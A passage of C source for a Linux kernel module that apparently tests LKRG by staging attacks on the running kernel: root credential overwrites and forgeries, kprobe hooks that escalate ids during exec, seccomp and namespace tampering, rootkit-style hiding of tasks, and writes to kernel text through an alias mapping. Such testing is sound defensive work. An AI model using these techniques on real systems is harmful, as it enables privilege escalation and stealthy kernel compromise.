// SPDX-License-Identifier: GPL-2.0-only
/*
 * LKRG - Attacks on the running kernel, for tests of the guard
 *
 * An attacker who can write to kernel memory does not call the functions that
 * the kernel has for a change: he changes the object.  So does this module.
 * An ordinary user writes the name of one attack to /dev/lkrg_attack, and the
 * object is changed, in the running kernel, as by that attacker.  Reading the
 * device lists the attacks: on credentials, in place, by their pointers and by
 * the functions of the kernel; on namespaces, root, seccomp, tracer, memory and
 * flags of a task; on the lists it is in, and its record in that of the guard;
 * on a kernel thread of this module and on process 1; on the kernel image; on memory
 * for code; on the registers of a CPU; on the passes of the guard; on the flow of the
 * kernel; on programs that the kernel starts; on variables that decide, and who may
 * write them; on the inode of a file.
 *
 * What differs from a real attack is only what lets the machine survive with
 * the guard switched off: whatever a changed credential will give back when
 * its task exits (references, a count of processes) is taken here first, and
 * what it can no longer give back is given back here.  No lock is taken that
 * an attacker would not take: what is changed belongs to the caller, or to one
 * who sleeps.
 */

#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/acpi.h>
#include <linux/align.h>
#include <linux/array_size.h>
#include <linux/binfmts.h>
#include <linux/bits.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/cgroup.h>
#include <linux/compiler.h>
#include <linux/completion.h>
#include <linux/container_of.h>
#include <linux/cpu.h>
#include <linux/cpufeature.h>
#include <linux/cpumask.h>
#include <linux/cred.h>
#include <linux/err.h>
#include <linux/execmem.h>
#include <linux/extable.h>
#include <linux/filter.h>
#include <linux/fprobe.h>
#include <linux/fs.h>
#include <linux/fs_struct.h>
#include <linux/ftrace.h>
#include <linux/hex.h>
#include <linux/hrtimer.h>
#include <linux/idr.h>
#include <linux/init.h>
#include <linux/ipc_namespace.h>
#include <linux/irq_work.h>
#include <linux/irqflags.h>
#include <linux/jump_label.h>
#include <linux/kallsyms.h>
#include <linux/kernel_read_file.h>
#include <linux/kernfs.h>
#include <linux/key.h>
#include <linux/kmemleak.h>
#include <linux/kmod.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/kstrtox.h>
#include <linux/kthread.h>
#include <linux/linkage.h>
#include <linux/limits.h>
#include <linux/list.h>
#include <linux/livepatch.h>
#include <linux/lkrg.h>
#include <linux/lkrg_variable.h>
#include <linux/lsm_hooks.h>
#include <linux/magic.h>
#include <linux/minmax.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/mutex.h>
#include <linux/namei.h>
#include <linux/ns_common.h>
#include <linux/nsproxy.h>
#include <linux/objtool.h>
#include <linux/path.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/preempt.h>
#include <linux/processor.h>
#include <linux/ptrace.h>
#include <linux/random.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/rcupdate.h>
#include <linux/reboot.h>
#include <linux/rethook.h>
#include <linux/sched.h>
#include <linux/sched/coredump.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/sched/user.h>
#include <linux/seccomp.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/stat.h>
#include <linux/static_call.h>
#include <linux/string.h>
#include <linux/sysctl.h>
#include <linux/sysfs.h>
#include <linux/thread_info.h>
#include <linux/time_namespace.h>
#include <linux/timer.h>
#include <linux/tracepoint.h>
#include <linux/uaccess.h>
#include <linux/umh.h>
#include <linux/uprobes.h>
#include <linux/user_namespace.h>
#include <linux/utsname.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <keys/user-type.h>
#include <net/net_namespace.h>
#include <trace/events/power.h>

#include <asm/debugreg.h>
#include <asm/desc.h>
#include <asm/fpu/types.h>
#include <asm/fpu/xcr.h>
#include <asm/ibt.h>
#include <asm/msr.h>
#include <asm/nops.h>
#include <asm/nospec-branch.h>
#include <asm/text-patching.h>
#include <asm/trapnr.h>
#include <asm/vdso.h>

static bool insecure;
module_param(insecure, bool, 0400);
MODULE_PARM_DESC(insecure, "Load although every user then owns the machine");

static char *hide;
module_param(hide, charp, 0400);
MODULE_PARM_DESC(hide, "The attack by which the module hides before it is asked");

static uint hide_after;
module_param(hide_after, uint, 0400);
MODULE_PARM_DESC(hide_after, "So many seconds later, or else while it is loaded");

static bool leave;
module_param(leave, bool, 0400);
MODULE_PARM_DESC(leave, "With what it has done then it is not loaded");

/* The last change of text or read-only data: "symbol+offset/size: old -> new" */
static char changed[KSYM_SYMBOL_LEN + 128];
module_param_string(changed, changed, sizeof(changed), 0444);
MODULE_PARM_DESC(changed, "What was changed in the kernel image (read only)");

/* Who owns the file that is read with it, see attack_victim.c */
#define ATTACK_GID	2001

/* Whoever root is not */
#define ATTACK_UID	1000

/**
 * struct attack - One row of the table of attacks
 * @name: What is written to the device
 * @what: What it changes, for a person
 * @run: Does it to a task, the field is for those attacks that need one
 * @field: Offset of the field in struct cred or struct nsproxy
 * @on_parent: The task is the parent of the caller instead of the caller
 */
struct attack {
	const char *name;
	const char *what;
	int (*run)(struct task_struct *task, size_t field);
	size_t field;
	bool on_parent;
};

/* === Credentials, in place ============================================== */

static struct cred *cred_of(struct task_struct *task)
{
	return (struct cred *)rcu_dereference_protected(task->real_cred, true);
}

static int clear_word(struct task_struct *task, size_t field)
{
	u32 *const word = (void *)cred_of(task) + field;

	WRITE_ONCE(*word, 0);
	return 0;
}

static int fill_caps(struct task_struct *task, size_t field)
{
	kernel_cap_t *const caps = (void *)cred_of(task) + field;

	*caps = CAP_FULL_SET;
	return 0;
}

static int become_root(struct task_struct *task, size_t field)
{
	static const size_t ids[] = {
		offsetof(struct cred, uid),	offsetof(struct cred, gid),
		offsetof(struct cred, suid),	offsetof(struct cred, sgid),
		offsetof(struct cred, euid),	offsetof(struct cred, egid),
		offsetof(struct cred, fsuid),	offsetof(struct cred, fsgid),
	};
	static const size_t caps[] = {
		offsetof(struct cred, cap_inheritable),
		offsetof(struct cred, cap_permitted),
		offsetof(struct cred, cap_effective),
		offsetof(struct cred, cap_bset),
		offsetof(struct cred, cap_ambient),
	};
	size_t i;

	for (i = 0; i < ARRAY_SIZE(ids); i++)
		clear_word(task, ids[i]);
	for (i = 0; i < ARRAY_SIZE(caps); i++)
		fill_caps(task, caps[i]);
	return 0;
}

static int overwrite_user(struct task_struct *task, size_t field)
{
	const struct cred *const init = get_task_cred(&init_task);
	struct cred *const cred = cred_of(task);
	struct user_struct *const old = cred->user;

	WRITE_ONCE(cred->user, get_uid(init->user));
	free_uid(old);
	put_cred(init);
	return 0;
}

static int overwrite_user_ns(struct task_struct *task, size_t field)
{
	struct cred *const cred = cred_of(task);
	struct user_namespace *const old = cred->user_ns;

	WRITE_ONCE(cred->user_ns, get_user_ns(&init_user_ns));
	put_user_ns(old);
	return 0;
}

static int overwrite_group_info(struct task_struct *task, size_t field)
{
	const struct cred *const init = get_task_cred(&init_task);
	struct cred *const cred = cred_of(task);
	struct group_info *const old = cred->group_info;

	WRITE_ONCE(cred->group_info, get_group_info(init->group_info));
	put_group_info(old);
	put_cred(init);
	return 0;
}

/*
 * Each exiting task is taken off the count of processes that its real
 * credential names then.  So the tasks have to be moved to that count.
 */
static void move_processes(struct ucounts *from, struct ucounts *to, int nr)
{
	struct ucounts *iter;

	for (iter = to; iter; iter = iter->ns->ucounts)
		atomic_long_add(nr, &iter->rlimit[UCOUNT_RLIMIT_NPROC]);
	for (iter = from; iter; iter = iter->ns->ucounts)
		atomic_long_sub(nr, &iter->rlimit[UCOUNT_RLIMIT_NPROC]);
}

static int overwrite_ucounts(struct task_struct *task, size_t field)
{
	const struct cred *const init = get_task_cred(&init_task);
	struct cred *const cred = cred_of(task);
	struct ucounts *const old = cred->ucounts;
	struct task_struct *thread;
	int nr = 0;

	rcu_read_lock();
	for_each_thread(task, thread)
		nr += rcu_access_pointer(thread->real_cred) == cred;
	rcu_read_unlock();

	atomic_inc(&init->ucounts->count);
	move_processes(old, init->ucounts, nr);
	WRITE_ONCE(cred->ucounts, init->ucounts);
	/* put_ucounts() is not exported: the last reference, if it is, stays */
	atomic_add_unless(&old->count, -1, 1);
	put_cred(init);
	return 0;
}

/* Who is in the groups, and not which groups */
static int overwrite_groups(struct task_struct *task, size_t field)
{
	struct group_info *const groups = cred_of(task)->group_info;

	if (!groups->ngroups)
		return -ENOENT;
	WRITE_ONCE(groups->gid[0].val, ATTACK_GID);
	return 0;
}

static struct task_struct *get_last_child(struct task_struct *task)
{
	struct task_struct *child;
	struct pid *pid = NULL;

	rcu_read_lock();
	list_for_each_entry_rcu(child, &task->children, sibling)
		pid = task_pid(child);
	child = get_pid_task(pid, PIDTYPE_PID);
	rcu_read_unlock();
	return child;
}

/* The session keyring of the last child, who does not leave it */
static int overwrite_keyring(struct task_struct *task, size_t field)
{
#ifdef CONFIG_KEYS
	struct task_struct *const child = get_last_child(task);
	struct cred *const cred = cred_of(task);
	struct key *const old = cred->session_keyring;

	if (!child)
		return -ESRCH;
	cred->session_keyring = key_get(cred_of(child)->session_keyring);
	key_put(old);
	put_task_struct(child);
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

/* Where the label of Landlock is among those of all modules */
static ulong landlock_blob_sizes_at;
module_param_named(landlock_blob_sizes, landlock_blob_sizes_at, ulong, 0400);
MODULE_PARM_DESC(landlock_blob_sizes, "Address of that object");

/* The domain is what the label of Landlock is made of; its reference stays */
static int clear_landlock(struct task_struct *task, size_t field)
{
	const struct lsm_blob_sizes *const sizes = (void *)landlock_blob_sizes_at;
	void **domain;

	if (!sizes)
		return -ENOENT;
	domain = cred_of(task)->security + sizes->lbs_cred;
	if (!*domain)
		return -ENOENT;
	kmemleak_ignore(*domain);
	WRITE_ONCE(*domain, NULL);
	return 0;
}

/*
 * What is left of the credential when its memory is used again for that of
 * root.  The new one was in use, so it has all that a credential in use has.
 */
static int reuse(struct task_struct *task, size_t field)
{
	struct cred *const cred = cred_of(task);
	struct cred *const new = prepare_kernel_cred(&init_task);
	const atomic_long_t usage = cred->usage;

	if (!new)
		return -ENOMEM;
	revert_creds(override_creds(new));
	move_processes(cred->ucounts, new->ucounts, 1);
	kmemleak_ignore(cred->security);
	memcpy(cred, new, sizeof(*cred));
	cred->usage = usage;
	/* It is the twin of what lives on, and must not be freed as well */
	kmemleak_ignore(new);
	return 0;
}

/* === Credentials, the pointers ========================================== */

static int redirect_cred(struct task_struct *task, size_t field)
{
	put_cred(rcu_replace_pointer(task->cred, get_task_cred(&init_task),
				     true));
	return 0;
}

static int redirect_real_cred(struct task_struct *task, size_t field)
{
	const struct cred *const init = get_task_cred(&init_task);
	const struct cred *const old =
		rcu_replace_pointer(task->real_cred, init, true);

	move_processes(old->ucounts, init->ucounts, 1);
	put_cred(old);
	return 0;
}

static int redirect_both(struct task_struct *task, size_t field)
{
	redirect_cred(task, field);
	return redirect_real_cred(task, field);
}

/* Memory that was never given to a credential */
static int forge_cred(struct task_struct *task, size_t field)
{
	static struct cred forged;
	const struct cred *const init = get_task_cred(&init_task);
	const struct cred *const old = cred_of(task);

	forged = *init;
	atomic_long_set(&forged.usage, 1000000);
	move_processes(old->ucounts, init->ucounts, 1);
	rcu_assign_pointer(task->cred, &forged);
	rcu_assign_pointer(task->real_cred, &forged);
	put_cred_many(old, 2);
	put_cred(init);
	return 0;
}

/*
 * The parent may take its time until it is verified.  What it had stays until
 * then, so that the report can say what differs.
 */
static int redirect_parent(struct task_struct *task, size_t field)
{
	get_cred(cred_of(task));
	return redirect_both(task, field);
}

/* A worker of io_uring: a thread of the task's, but it runs no program */
static int redirect_worker(struct task_struct *task, size_t field)
{
	struct task_struct *thread, *worker = NULL;
	int err;

	rcu_read_lock();
	for_each_thread(task, thread)
		if (thread->flags & PF_IO_WORKER)
			worker = thread;
	if (worker)
		get_task_struct(worker);
	rcu_read_unlock();
	if (!worker)
		return -ESRCH;
	err = redirect_both(worker, field);
	put_task_struct(worker);
	return err;
}

/* === Credentials, by the kernel's functions from a hijacked flow ======== */

/* What is refused stays with who asked. */
static int commit(struct cred *cred)
{
	int err;

	if (!cred)
		return -ENOMEM;
	err = commit_creds(cred);
	if (err)
		put_cred(cred);
	return err;
}

static int commit_init(struct task_struct *task, size_t field)
{
	return commit((struct cred *)get_task_cred(&init_task));
}

static int commit_kernel(struct task_struct *task, size_t field)
{
	return commit(prepare_kernel_cred(&init_task));
}

/* What a module would do that was never meant to change ids */
static int commit_own(struct task_struct *task, size_t field)
{
	struct cred *const cred = prepare_creds();

	if (!cred)
		return -ENOMEM;
	cred->uid = GLOBAL_ROOT_UID;
	cred->euid = GLOBAL_ROOT_UID;
	cred->suid = GLOBAL_ROOT_UID;
	cred->fsuid = GLOBAL_ROOT_UID;
	cred->cap_effective = CAP_FULL_SET;
	cred->cap_permitted = CAP_FULL_SET;
	return commit(cred);
}

/*
 * What a system call has prepared, just before it takes effect: by another task,
 * while the call sleeps, or in the time of a few instructions.
 */
enum { TICKET_SETUID, TICKET_SETGID, TICKET_CAPSET, TICKET_USERNS };

#ifdef CONFIG_KPROBES
struct ambush {
	struct kprobe probe;
	struct task_struct *victim;
	void (*change)(struct pt_regs *regs);
};

static int spring(struct kprobe *probe, struct pt_regs *regs)
{
	struct ambush *const ambush = container_of(probe, struct ambush, probe);

	if (current == ambush->victim) {
		ambush->victim = NULL;
		ambush->change(regs);
	}
	return 0;
}

static void change_bprm(struct pt_regs *regs)
{
	struct linux_binprm *const bprm =
		(void *)regs_get_kernel_argument(regs, 0);

	bprm->cred->euid = GLOBAL_ROOT_UID;
}

static void change_new_cred(struct pt_regs *regs)
{
	struct cred *const new = (void *)regs_get_kernel_argument(regs, 0);

	new->cap_permitted = CAP_FULL_SET;
	new->cap_effective = CAP_FULL_SET;
}

/* With what a hook has just decided on goes what it has not. */
static void change_ids(struct pt_regs *regs)
{
	struct cred *const new = (void *)regs_get_kernel_argument(regs, 0);

	new->euid = GLOBAL_ROOT_UID;
	new->fsuid = GLOBAL_ROOT_UID;
}

static void change_groups(struct pt_regs *regs)
{
	struct cred *const new = (void *)regs_get_kernel_argument(regs, 0);

	new->egid = GLOBAL_ROOT_GID;
	new->fsgid = GLOBAL_ROOT_GID;
}

static struct ambush ticket_ambushes[] = {
	[TICKET_SETUID] = {
		.probe = { .symbol_name = "security_task_fix_setuid", .pre_handler = spring },
		.change = change_groups,
	},
	[TICKET_SETGID] = {
		.probe = { .symbol_name = "security_task_fix_setgid", .pre_handler = spring },
		.change = change_ids,
	},
	[TICKET_CAPSET] = {
		.probe = { .symbol_name = "security_capset", .pre_handler = spring },
		.change = change_ids,
	},
	[TICKET_USERNS] = {
		.probe = { .symbol_name = "security_create_user_ns", .pre_handler = spring },
		.change = change_ids,
	},
};

static struct ambush exec_ambush = {
	.probe = { .symbol_name = "begin_new_exec", .pre_handler = spring },
	.change = change_bprm,
};

static struct ambush commit_ambush = {
	.probe = { .symbol_name = "commit_creds", .pre_handler = spring },
	.change = change_new_cred,
};

static int lie_in_wait(struct ambush *ambush, struct task_struct *task)
{
	int err = ambush->probe.addr ? 0 : register_kprobe(&ambush->probe);

	if (!err)
		ambush->victim = task;
	return err;
}

/* The same while it decides on ids and capabilities: where it may sleep as well */
static struct cred *exec_cred;
static struct ambush *second_ambush;

static void note_bprm(struct pt_regs *regs)
{
	struct linux_binprm *const bprm =
		(void *)regs_get_kernel_argument(regs, 0);

	exec_cred = bprm->cred;
	second_ambush->victim = current;
}

static void change_exec_cred(struct pt_regs *regs)
{
	exec_cred->uid = GLOBAL_ROOT_UID;
	exec_cred->euid = GLOBAL_ROOT_UID;
}

static struct ambush noting_ambush = {
	.probe = { .symbol_name = "begin_new_exec", .pre_handler = spring },
	.change = note_bprm,
};

static struct ambush inode_ambush = {
	.probe = { .symbol_name = "inode_permission", .pre_handler = spring },
	.change = change_exec_cred,
};

static struct ambush xattr_ambush = {
	.probe = { .symbol_name = "__vfs_getxattr", .pre_handler = spring },
	.change = change_exec_cred,
};

static int change_exec_at(struct ambush *ambush, struct task_struct *task)
{
	second_ambush = ambush;
	return lie_in_wait(ambush, NULL) ?: lie_in_wait(&noting_ambush, task);
}

static int change_exec_ids(struct task_struct *task, size_t field)
{
	return change_exec_at(&inode_ambush, task);
}

static int change_exec_caps(struct task_struct *task, size_t field)
{
	return change_exec_at(&xattr_ambush, task);
}

static int change_exec(struct task_struct *task, size_t field)
{
	return lie_in_wait(&exec_ambush, task);
}

static int change_commit(struct task_struct *task, size_t field)
{
	return lie_in_wait(&commit_ambush, task);
}

static int change_ticket(struct task_struct *task, size_t field)
{
	return lie_in_wait(&ticket_ambushes[field], task);
}

static void end_ambushes(void)
{
	struct ambush *const ambushes[] = {
		&exec_ambush, &commit_ambush, &noting_ambush, &inode_ambush, &xattr_ambush,
	};
	size_t i;

	for (i = 0; i < ARRAY_SIZE(ticket_ambushes); i++) {
		if (ticket_ambushes[i].probe.addr)
			unregister_kprobe(&ticket_ambushes[i].probe);
	}
	for (i = 0; i < ARRAY_SIZE(ambushes); i++) {
		if (ambushes[i]->probe.addr)
			unregister_kprobe(&ambushes[i]->probe);
	}
}
#else
static int change_exec_ids(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int change_exec_caps(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int change_exec(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int change_commit(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static int change_ticket(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}

static void end_ambushes(void)
{
}
#endif

/* Nothing will revert, so nothing else puts the credential of before */
static int override_with(const struct cred *cred)
{
	if (!cred)
		return -ENOMEM;
	put_cred(override_creds(cred));
	put_cred(cred);
	return 0;
}

static int override_init(struct task_struct *task, size_t field)
{
	return override_with(get_task_cred(&init_task));
}

static int override_kernel(struct task_struct *task, size_t field)
{
	return override_with(prepare_kernel_cred(&init_task));
}

/* === Namespaces ========================================================= */

/* Nothing of it is exported: its user knows where it is */
static ulong switch_task_namespaces_at;
module_param_named(switch_task_namespaces, switch_task_namespaces_at, ulong,
		   0400);
MODULE_PARM_DESC(switch_task_namespaces, "Address of that function");

static ulong init_nsproxy_at;
module_param_named(init_nsproxy, init_nsproxy_at, ulong, 0400);
MODULE_PARM_DESC(init_nsproxy, "Address of that object");

static void switch_namespaces_to(struct task_struct *task, struct nsproxy *new)
{
	void (*const function)(struct task_struct *, struct nsproxy *) =
		(void *)switch_task_namespaces_at;

	function(task, new);
}

static int switch_namespaces(struct task_struct *task, size_t field)
{
	struct nsproxy *const init = (void *)init_nsproxy_at;

	if (!switch_task_namespaces_at || !init)
		return -ENOENT;
	get_nsproxy(init);
	switch_namespaces_to(task, init);
	return 0;
}

/* The same namespaces, in memory that nobody but the task knows */
static int switch_to_copy(struct task_struct *task, size_t field)
{
	const struct nsproxy *const init = (void *)init_nsproxy_at;
	struct nsproxy *copy;

	if (!switch_task_namespaces_at || !init)
		return -ENOENT;
	copy = kmemdup(init, sizeof(*init), GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	kmemleak_not_leak(copy);
	refcount_set(&copy->count, 1);
	switch_namespaces_to(task, copy);
	/* Nobody may free it, because it is not where others are. */
	refcount_inc(&copy->count);
	return 0;
}

static int switch_child(struct task_struct *task, size_t field)
{
	struct task_struct *const child = get_last_child(task);
	int err;

	if (!child)
		return -ESRCH;
	err = switch_namespaces(child, field);
	put_task_struct(child);
	return err;
}

static ulong from_mnt_ns_at;
module_param_named(from_mnt_ns, from_mnt_ns_at, ulong, 0400);
MODULE_PARM_DESC(from_mnt_ns, "Address of that function");

/* Where the users of a namespace are counted; of a mount one only fs/ knows */
static struct ns_common *common_of(const struct nsproxy *ns, size_t field)
{
	struct ns_common *(*const function)(struct mnt_namespace *) =
		(void *)from_mnt_ns_at;

	switch (field) {
	case offsetof(struct nsproxy, uts_ns):
		return &ns->uts_ns->ns;
	case offsetof(struct nsproxy, ipc_ns):
		return &ns->ipc_ns->ns;
	case offsetof(struct nsproxy, mnt_ns):
		return function ? function(ns->mnt_ns) : NULL;
	case offsetof(struct nsproxy, pid_ns_for_children):
		return &ns->pid_ns_for_children->ns;
	case offsetof(struct nsproxy, net_ns):
		return &ns->net_ns->ns;
	case offsetof(struct nsproxy, time_ns):
		return &ns->time_ns->ns;
	case offsetof(struct nsproxy, time_ns_for_children):
		return &ns->time_ns_for_children->ns;
	case offsetof(struct nsproxy, cgroup_ns):
		return &ns->cgroup_ns->ns;
	}
	return NULL;
}

/*
 * One pointer of its namespaces, which it shares with nobody, to that of init.
 * The field is its offset in struct nsproxy.  The namespace of before loses its
 * last owner, and stays.
 */
static int overwrite_ns(struct task_struct *task, size_t field)
{
	void **const own = (void *)task->nsproxy + field;
	struct nsproxy *const init = (void *)init_nsproxy_at;
	struct ns_common *common;
	void **other;

	if (!init)
		return -ENOENT;
	other = (void *)init + field;
	if (*own == *other)
		return -EBUSY;
	common = common_of(init, field);
	if (!common)
		return -ENOENT;
	refcount_inc(&common->count);
	kmemleak_ignore(*own);
	WRITE_ONCE(*own, *other);
	return 0;
}

/* === Root, seccomp, tracer and flags ==================================== */

static int redirect_fs(struct task_struct *task, size_t field)
{
	struct fs_struct *const init = init_task.fs, *const old = task->fs;

	spin_lock(&init->lock);
	init->users++;
	spin_unlock(&init->lock);
	spin_lock(&old->lock);
	/* If nobody else uses it, it stays */
	old->users--;
	spin_unlock(&old->lock);
	WRITE_ONCE(task->fs, init);
	return 0;
}

/* One path, in the object that it shares with nobody */
static int overwrite_path(struct path *path)
{
	const struct path old = *path;

	*path = init_task.fs->root;
	path_get(path);
	path_put(&old);
	return 0;
}

static int overwrite_root(struct task_struct *task, size_t field)
{
	return overwrite_path(&task->fs->root);
}

static int overwrite_pwd(struct task_struct *task, size_t field)
{
	return overwrite_path(&task->fs->pwd);
}

static int clear_seccomp_work(struct task_struct *task, size_t field)
{
	clear_task_syscall_work(task, SECCOMP);
	return 0;
}

static int clear_seccomp(struct task_struct *task, size_t field)
{
#ifdef CONFIG_SECCOMP
	clear_task_syscall_work(task, SECCOMP);
	WRITE_ONCE(task->seccomp.mode, SECCOMP_MODE_DISABLED);
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

/*
 * The filters of the last child, who has less.  A filter begins with the two
 * counts of its users, which only seccomp knows; that of before stays.
 */
static int take_filter(struct task_struct *task, size_t field)
{
#ifdef CONFIG_SECCOMP
	struct task_struct *const child = get_last_child(task);
	refcount_t *counts;

	if (!child)
		return -ESRCH;
	counts = (refcount_t *)child->seccomp.filter;
	refcount_inc(&counts[0]);
	refcount_inc(&counts[1]);
	kmemleak_ignore(task->seccomp.filter);
	WRITE_ONCE(task->seccomp.filter, child->seccomp.filter);
	put_task_struct(child);
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

/* As if it had never asked not to be looked into */
static int make_dumpable(struct task_struct *task, size_t field)
{
	struct mm_struct *const mm = task->mm;

	WRITE_ONCE(mm->flags, (mm->flags & ~MMF_DUMPABLE_MASK) | SUID_DUMP_USER);
	return 0;
}

static int clear_no_new_privs(struct task_struct *task, size_t field)
{
	clear_bit(PFA_NO_NEW_PRIVS, &task->atomic_flags);
	return 0;
}

/* As if root were tracing it, and not the one who does */
static int overwrite_tracer(struct task_struct *task, size_t field)
{
	const struct cred *const old =
		rcu_dereference_protected(task->ptracer_cred, true);

	if (!old)
		return -ESRCH;
	rcu_assign_pointer(task->ptracer_cred, get_task_cred(&init_task));
	put_cred(old);
	return 0;
}

/* A mark that the kernel does not know */
static int set_private_flag(struct task_struct *task, size_t field)
{
	task->flags |= PF__HOLE__40000000;
	return 0;
}

/* === Hiding ============================================================= */

/* To send it a signal, even that one, has no effect any more. */
static int become_unkillable(struct task_struct *task, size_t field)
{
	struct k_sigaction *actions = task->sighand->action;

	task->signal->flags |= SIGNAL_UNKILLABLE;
	actions[SIGKILL - 1].sa.sa_handler = SIG_IGN;
	actions[SIGUSR2 - 1].sa.sa_handler = SIG_IGN;
	sigaddset(&task->blocked, SIGKILL);
	return clear_word(task, field);
}

/* Unlinked as rootkits do: it may be unlinked once more */
static int hide_from_tasks(struct task_struct *task, size_t field)
{
	struct list_head *const entry = &task->group_leader->tasks;

	/* Nobody else changes the list: the machine does nothing but this */
	entry->prev->next = entry->next;
	entry->next->prev = entry->prev;
	INIT_LIST_HEAD(entry);
	return 0;
}

static int hide_from_pid(struct task_struct *task, size_t type)
{
	static struct hlist_node *nowhere;
	struct hlist_node *const node = &task->pid_links[type];

	WRITE_ONCE(*node->pprev, node->next);
	if (node->next)
		node->next->pprev = node->pprev;
	node->next = NULL;
	node->pprev = &nowhere;
	return 0;
}

static int hide_from_idr(struct task_struct *task, size_t field)
{
	idr_replace(&init_pid_ns.idr, NULL, task_pid_nr(task));
	return 0;
}

/* Who looks from outside of the container finds it. */
static int hide_from_container(struct task_struct *task, size_t field)
{
	struct pid_namespace *ns = task_active_pid_ns(task);

	idr_replace(&ns->idr, NULL, task_pid_nr_ns(task, ns));
	return 0;
}

/* Where the record of a task begins among those of all modules */
static ulong lkrg_blob_sizes_at;
module_param_named(lkrg_blob_sizes, lkrg_blob_sizes_at, ulong, 0400);
MODULE_PARM_DESC(lkrg_blob_sizes, "Address of that object");

/* What is in a record only lkrg knows, but it is not longer than that. */
#define RECORD_WORDS	(320 / sizeof(ulong))

static ulong *record_of(struct task_struct *task)
{
	const struct lsm_blob_sizes *const sizes = (void *)lkrg_blob_sizes_at;

	return sizes ? task->security + sizes->lbs_task : NULL;
}

/* Two words that lead to others, which lead back: nothing else does */
static bool is_list_node(const struct list_head *node)
{
	struct list_head next, prev;

	return node->next != node &&
	       !copy_from_kernel_nofault(&next, node->next, sizeof(next)) &&
	       !copy_from_kernel_nofault(&prev, node->prev, sizeof(prev)) &&
	       next.prev == node && prev.next == node;
}

static int hide_record(struct task_struct *task, size_t field)
{
	ulong *const record = record_of(task);
	struct list_head *node;
	size_t i;

	if (!record)
		return -ENOENT;
	for (i = 0; i + 1 < RECORD_WORDS; i++) {
		node = (struct list_head *)&record[i];
		if (!is_list_node(node))
			continue;
		node->prev->next = node->next;
		node->next->prev = node->prev;
		INIT_LIST_HEAD(node);
		return 0;
	}
	return -ESRCH;
}

static int hide_record_and_pid(struct task_struct *task, size_t field)
{
	return hide_record(task, field) ?: hide_from_pid(task, PIDTYPE_PID);
}

/* As if the record were that of init_task, which is in no list */
static int give_record_away(struct task_struct *task, size_t field)
{
	ulong *const record = record_of(task);
	size_t i;

	if (!record)
		return -ENOENT;
	for (i = 0; i < RECORD_WORDS; i++) {
		if (record[i] != (ulong)task)
			continue;
		WRITE_ONCE(record[i], (ulong)&init_task);
		return 0;
	}
	return -ESRCH;
}

/* === A kernel thread ==================================================== */

static struct task_struct *sleeper;

static int sleep_on(void *unused)
{
	set_current_state(TASK_IDLE);
	while (!kthread_should_stop()) {
		schedule();
		set_current_state(TASK_IDLE);
	}
	__set_current_state(TASK_RUNNING);
	return 0;
}

static int start_sleeper(struct task_struct *task, size_t field)
{
	struct task_struct *new;

	if (sleeper)
		return -EBUSY;
	new = kthread_run(sleep_on, NULL, "lkrg_sleeper");
	if (IS_ERR(new))
		return PTR_ERR(new);
	sleeper = new;
	return 0;
}

static int stop_sleeper(struct task_struct *task, size_t field)
{
	if (!sleeper)
		return -ESRCH;
	kthread_stop(sleeper);
	sleeper = NULL;
	return 0;
}

static int overwrite_sleeper(struct task_struct *task, size_t field)
{
	if (!sleeper)
		return -ESRCH;
	WRITE_ONCE(cred_of(sleeper)->fsuid.val, ATTACK_UID);
	return 0;
}

/* === The first process ================================================== */

static int set_fsuid_of_init(uid_t uid)
{
	struct task_struct *init;

	rcu_read_lock();
	init = get_pid_task(find_pid_ns(1, &init_pid_ns), PIDTYPE_PID);
	rcu_read_unlock();
	if (!init)
		return -ESRCH;
	WRITE_ONCE(cred_of(init)->fsuid.val, uid);
	put_task_struct(init);
	return 0;
}

static int overwrite_first(struct task_struct *task, size_t field)
{
	return set_fsuid_of_init(ATTACK_UID);
}

static int restore_first(struct task_struct *task, size_t field)
{
	return set_fsuid_of_init(0);
}

/* === The kernel image =================================================== */

/*
 * Four words: what the guard can name byte by byte.  Aligned to their size
 * they lie in one page.
 */
#define CHANGE_MAX	(4 * sizeof(u32))

/* Of what the guard remembers only some: more than these. */
#define MANY		20

struct change {
	void *at;
	size_t size;
	u8 old[CHANGE_MAX];
};

static struct change text_change;
static struct change rodata_change;
static struct change module_text_change;
static struct change module_rodata_change;
static struct change module_late_change;
static struct change lsm_change;

/* The page is mapped a second time, and writable. */
static void *map_alias(const void *at)
{
	struct page *page = is_vmalloc_or_module_addr(at) ?
		vmalloc_to_page(at) : pfn_to_page(PHYS_PFN(__pa_symbol(at)));

	return vmap(&page, 1, VM_MAP, PAGE_KERNEL);
}

static int write_through_alias(void *at, const void *from, size_t size)
{
	void *const alias = map_alias(at);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(at), from, size);
	vunmap(alias);
	return 0;
}

/*
 * Somebody calls the kernel's own functions, as by code reuse.  Of one
 * instruction text_poke_bp() makes sure that nobody runs the half of it.
 */
static unsigned long text_poke_at;
module_param_named(text_poke, text_poke_at, ulong, 0400);
MODULE_PARM_DESC(text_poke, "Address of that function");

static unsigned long text_poke_bp_at;
module_param_named(text_poke_bp, text_poke_bp_at, ulong, 0400);
MODULE_PARM_DESC(text_poke_bp, "Address of that function");

static unsigned long text_mutex_at;
module_param_named(text_mutex, text_mutex_at, ulong, 0400);
MODULE_PARM_DESC(text_mutex, "Address of that object");

static int write_by_poke(void *at, const void *from, size_t size)
{
	void *(*poke)(void *addr, const void *opcode, size_t len) =
